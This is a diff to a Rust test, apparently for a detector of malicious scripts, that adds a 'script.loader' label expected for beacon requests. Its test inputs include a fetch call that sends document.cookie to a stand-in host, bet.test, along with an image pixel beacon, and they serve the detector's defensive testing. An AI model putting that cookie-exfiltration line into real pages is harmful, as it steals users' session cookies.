@@ -152,10 +152,12 @@ fn b4_handlers_and_javascript_urls() {
             r#"fetch("https://bet.test/c?"+document.cookie)"#,
             r#"new Image().src="https://bet.test/p.gif""#,
         ],
+        // A beacon or pixel to a foreign host is a request sink (`script.loader`).
         &[
             "script.redirect",
             "script.obfuscated",
             "script.foreign_host",
+            "script.loader",
         ],
     );
 }
